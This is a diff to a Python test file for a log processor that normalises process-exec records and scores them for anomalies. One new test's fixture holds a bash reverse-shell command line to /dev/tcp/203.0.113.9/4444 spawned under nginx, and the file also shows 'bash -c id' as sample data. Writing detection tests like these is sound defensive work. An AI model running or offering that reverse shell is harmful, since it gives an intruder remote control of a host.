@@ -164,6 +164,32 @@ def test_third_party_records_gain_the_design_attributes_and_keep_their_own(proce
     assert found["process.command_line"] == "bash -c id"
     assert found["process.executable.name"] == "bash"
     assert found["process.parent.executable.name"] == "nginx"
-    assert found["process.pid"] == 4242 and found["process.user.id"] == -1
+    assert found["process.pid"] == 4242 and "process.user.id" not in found  # -1 is no uid
     assert "process.command_args" not in found  # Falco gives no argv; a split would be a guess
     assert "anomaly_score" in found and record.body.string_value == falco
+
+
+def test_ecs_attributes_gain_the_user_name_and_keep_their_own(processor) -> None:  # type: ignore[no-untyped-def]
+    batch = exec_batch([])
+    record = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
+    record.attributes.extend(key_values({"process.name": "ssh", "process.executable": "/usr/bin/ssh",
+                                         "process.command_line": "ssh -l u 10.0.0.16", "user.id": "0",
+                                         "user.name": "root", "event.category": ["process"],
+                                         "event.type": ["start"]}))
+    processor.process(batch)
+    found = attributes(record)
+    assert found["process.user.name"] == "root" and found["process.user.id"] == 0
+    assert found["process.executable.name"] == "ssh" and found["process.name"] == "ssh"
+    assert found["process.command_line"] == "ssh -l u 10.0.0.16" and "anomaly_score" in found
+    assert processor._kinds.value(kind="ecs") == 1
+
+
+@pytest.mark.parametrize("processor", ["true"], indirect=True)
+def test_a_body_nested_thousands_deep_does_not_unscore_its_batch(processor) -> None:  # type: ignore[no-untyped-def]
+    # Issue 11: RecursionError from such a body failed the scoring child, and the batch went out unscored.
+    batch = exec_batch([process_exec("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 7, 6, parent="nginx")])
+    deep = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
+    deep.body.string_value = '{"a": ' + "[" * 5000 + "]" * 5000 + "}"
+    processor.process(batch)
+    assert "anomaly_score" in attributes(batch.logs.resource_logs[0].scope_logs[0].log_records[0])
+    assert processor._kinds.value(kind="invalid") == 1
